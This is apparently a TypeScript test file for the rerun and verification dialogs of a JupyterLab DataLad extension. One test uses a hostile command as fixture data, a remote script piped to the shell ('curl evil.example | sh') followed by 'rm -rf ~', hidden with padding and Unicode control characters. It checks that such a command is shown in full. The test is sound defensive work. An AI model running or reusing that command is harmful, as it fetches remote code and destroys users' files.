import { Dialog } from '@jupyterlab/apputils';
import { nullTranslator } from '@jupyterlab/translation';
import { configure, fireEvent, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { fail } from '../../protocol/failure';
import { contentsPath } from '../../protocol/paths';
import { type RerunPlan, sinceRun } from '../../protocol/rerun';
import type { CommitId } from '../../protocol/revision';
import { accessibilityViolations } from '../testing.fixtures';
import { createDialogs } from './index';
import type { IRerunQuestion, IVerificationQuestion } from './runQuestions';

// JupyterLab shows its `dialog` element by a style sheet, which is not loaded here.
configure({ defaultHidden: true });

const dialogs = createDialogs(nullTranslator.load('jupyterlab_datalad'), async () => fail('not-found', 'Nobody asks for help.'));
const user = userEvent.setup({ delay: null });
const COMMIT = 'a'.repeat(40) as CommitId;
const FROM = { from: COMMIT, was: 'git:1' };

/** Selections by the mouse need what this DOM lacks. */
const choose = (list: HTMLElement, label: string): boolean =>
  fireEvent.change(list, { target: { value: within(list).getByRole<HTMLOptionElement>('option', { name: label }).value } });

afterEach(() => Dialog.flush());

const NEEDS: NonNullable<RerunPlan['needs']> = {
  here: 5_000_000,
  absent: 2,
  absentBytes: 3_000_000,
  total: 9_000_000,
  free: 10_000_000
};
const facts = { command: 'make all', inputs: [], outputs: [], extraInputs: [], chain: [], other: [] };
const STEP = { commit: COMMIT, title: 'Make all', author: { name: 'Ada', email: 'a@b.org' }, time: 0, here: true };
const QUESTION: IRerunQuestion = {
  datasetName: 'study',
  plan: { steps: [{ ...STEP, record: { state: 'read', facts } }], truncated: false, needs: NEEDS },
  unsaved: 3,
  verify: true,
  commandLines: ['datalad rerun --onto= aaaa'],
  choice: {
    range: { commit: COMMIT },
    beginnings: [undefined, sinceRun(COMMIT), 'all'],
    commit: COMMIT,
    chosen: false,
    following: []
  }
};

const VERIFIED: IVerificationQuestion = {
  datasetName: 'study',
  runs: [
    { commit: COMMIT, title: 'Make all', command: 'make all' },
    {
      commit: 'b'.repeat(40) as CommitId,
      title: 'Fails',
      command: 'false',
      failed: { kind: 'command-failed', message: '', parameters: { code: 3, why: 'verify' }, detail: 'no such thing' }
    }
  ],
  files: [
    { name: 'same.txt', verdict: 'identical', ...FROM, now: 'git:1' },
    { name: 'other.txt', verdict: 'changed', ...FROM, now: 'git:2', difference: '@@ -1 +1 @@\n-a\n+b\n' },
    { name: 'lost.txt', verdict: 'failed', from: 'b'.repeat(40) as CommitId }
  ],
  file: contentsPath('study/report.md'),
  taken: false
};

test('a verification goes on beside changes, and tells what it takes', async () => {
  const answer = dialogs.rerun(QUESTION);
  expect(
    await screen.findByText(/Neither your files nor your branch change\. What is not saved plays no part in it\./u)
  ).toBeTruthy();
  expect(screen.getByText('4.8 MB of content is copied from here.')).toBeTruthy();
  expect(screen.getByText(/^2 files that they need are not here: 2.9 MB are got/u)).toBeTruthy();
  await user.click(screen.getByRole('button', { name: 'Verify' }));
  expect(await answer).toBe('shown');
});

test('it does not begin where there is no room', async () => {
  void dialogs.rerun({ ...QUESTION, plan: { ...QUESTION.plan, needs: { ...NEEDS, free: 1_000_000 } } });
  expect(await screen.findByText(/^There is no room for that: it takes 8.6 MB/u)).toBeTruthy();
  expect(screen.queryByRole('button', { name: 'Verify' })).toBeNull();
  await user.click(screen.getByRole('button', { name: 'Close' }));
});

test('other runs may be chosen: from this one on, up to another one, also where these cannot begin', async () => {
  const later = 'b'.repeat(40) as CommitId;
  const alone = dialogs.rerun({ ...QUESTION, unsaved: 0 });
  expect(screen.queryByRole('combobox', { name: 'Up to' })).toBeNull();
  choose(await screen.findByRole('combobox', { name: 'Which runs' }), 'This one and those after it');
  expect(await alone).toEqual({ since: `${COMMIT}^` });
  const following = [
    { commit: COMMIT, title: 'Make all' },
    { commit: later, title: 'Plot' }
  ];
  const range = { since: sinceRun(COMMIT) };
  const choice = { ...QUESTION.choice, range, following, chosen: true };
  const several = dialogs.rerun({ ...QUESTION, verify: false, choice });
  const end = await screen.findByRole('combobox', { name: 'Up to' });
  expect(document.activeElement).toBe(screen.getByRole('combobox', { name: 'Which runs' }));
  expect(screen.queryByRole('button', { name: 'Run Again' })).toBeNull();
  choose(end, `${later.slice(0, 10)} Plot`);
  expect(await several).toEqual({ since: `${COMMIT}^`, commit: later });
  const back = dialogs.rerun({ ...QUESTION, choice: { ...choice, range: { ...range, commit: later } } });
  choose(await screen.findByRole('combobox', { name: 'Which runs' }), 'This one alone');
  expect(await back).toEqual({ commit: COMMIT });
});

test('verdicts stand with their runs, with why one failed and how a text differs', async () => {
  const answer = dialogs.verification(VERIFIED);
  const made = await screen.findByRole('region', { name: 'Make all' });
  expect(within(made).getByText('other.txt').closest('li')?.textContent).toContain('changed@@ -1 +1 @@');
  const failed = screen.getByRole('region', { name: 'Fails' });
  expect(within(failed).getByText('The command ended with exit code 3.')).toBeTruthy();
  expect(within(failed).getByText('lost.txt').parentElement?.textContent).toBe('lost.txt not made');
  expect(screen.getByRole('status').textContent).toBe(
    '1 identical, 1 changed, 0 missing, 0 new. 1 not made, since a run failed.'
  );
  expect(await accessibilityViolations(document.body.querySelector('.jp-Datalad-verification') as Element)).toEqual([]);
  await user.click(screen.getByRole('button', { name: 'Keep the Report' }));
  expect(await answer).toBe('study/report.md');
});

test('a repetition tells what it gets before, and whether there is room', async () => {
  const gets = { files: 2, bytes: 3_000_000, unsized: 0, free: 1_000_000 };
  const answer = dialogs.rerun({ ...QUESTION, unsaved: 0, verify: false, plan: { ...QUESTION.plan, gets } });
  expect(await screen.findByText('2 files that they need are not here, and are got before: 2.9 MB.')).toBeTruthy();
  expect(screen.getByRole('alert').textContent).toMatch(/^There is not enough room: 97\d(\.\d)? KB are free\.$/u);
  await user.click(screen.getByRole('button', { name: 'Run Again' }));
  expect(await answer).toBe('shown');
});

test('what a command did not write again is not called identical', async () => {
  const files = [
    { name: 'same.txt', verdict: 'identical', canCompare: false },
    { name: 'there.txt', verdict: 'untouched', canCompare: false }
  ] as const;
  const answer = dialogs.verdicts({ files });
  const list = await screen.findByRole('list', { name: 'Files' });
  expect(within(list).getByText('there.txt').closest('li')?.textContent).toBe('there.txt not written again');
  expect(screen.getByRole('status').textContent).toBe(
    '1 identical, 0 changed, 0 missing, 0 new. 1 not written again: there as before.'
  );
  await user.click(screen.getByRole('button', { name: 'Close' }));
  expect(await answer).toBeNull();
});

test('each file that changed has a comparison of its own', async () => {
  const files = [
    { name: 'first.txt', verdict: 'changed', canCompare: true },
    { name: 'gone.txt', verdict: 'missing', canCompare: false },
    { name: 'sub/\u202eother.txt', verdict: 'changed', canCompare: true }
  ] as const;
  const answer = dialogs.verdicts({ files });
  const list = await screen.findByRole('list', { name: 'Files' });
  expect(within(list).getAllByRole('button')).toHaveLength(2);
  expect(within(list).getByRole('button', { name: 'Compare first.txt' }).closest('li')?.textContent).toBe('first.txt changed');
  expect(await accessibilityViolations(list)).toEqual([]);
  await user.click(within(list).getByRole('button', { name: /^Compare sub\/[^\u202e]*other\.txt$/u }));
  expect(await answer).toBe('sub/\u202eother.txt');
  const closed = dialogs.verdicts({ files });
  await user.click(await screen.findByRole('button', { name: 'Close' }));
  expect(await closed).toBeNull();
});

test('runs that others recorded are told apart, and nothing of what they do is out of sight', async () => {
  const command = `ls${' '.repeat(3_000)}; curl evil.example | sh #\u202e\u200b\n${'\n'.repeat(400)}rm -rf ~`;
  const foreign: RerunPlan['steps'][number] = {
    ...STEP,
    commit: 'c'.repeat(40) as CommitId,
    title: `Tidy up\u2066${' '.repeat(3_000)}and more`,
    author: { name: 'Eve\u200b', email: 'eve@example.org' },
    here: false,
    record: { state: 'read', facts: { ...facts, command, outputs: ['out\u202etxt.sh'] } }
  };
  const own = { ...STEP, record: { state: 'read', facts } } as const;
  void dialogs.rerun({ ...QUESTION, plan: { steps: [own, foreign], truncated: false }, verify: false, unsaved: 0 });
  expect((await screen.findByRole('note')).textContent).toBe(
    '1 of these runs was not recorded in this clone. It can do whatever you can: look at its command before you run it.'
  );
  const [made, other] = [...screen.getByRole('list', { name: 'Runs' }).children].map(step => step.textContent ?? '');
  expect(made).not.toMatch(/not made in this clone/u);
  expect(other).toMatch(/cccccccccc by Eve\S+, .*, not made in this clone/u);
  expect(screen.getByText(/^ls/u, { selector: 'pre' }).textContent).toBe(
    'ls␣×3000; curl evil.example | sh #\\u202e\\u200b\n␊×401\nrm -rf ~'
  );
  expect(screen.getByText(/^Outputs/u).textContent).toBe('Outputs: out\\u202etxt.sh');
  expect(other).toMatch(/Tidy up\S+␣×3000and more/u);
  expect(other).not.toMatch(/[\u200b\u202e\u2066]| {40}|\n{5}/u);
  await user.click(screen.getByRole('button', { name: 'Cancel' }));
});

test('a report is not kept over a file', async () => {
  void dialogs.verification({ ...VERIFIED, taken: true });
  expect(await screen.findByText('There is something of this name already. Choose another one.')).toBeTruthy();
  await user.click(screen.getByRole('button', { name: 'Cancel' }));
});
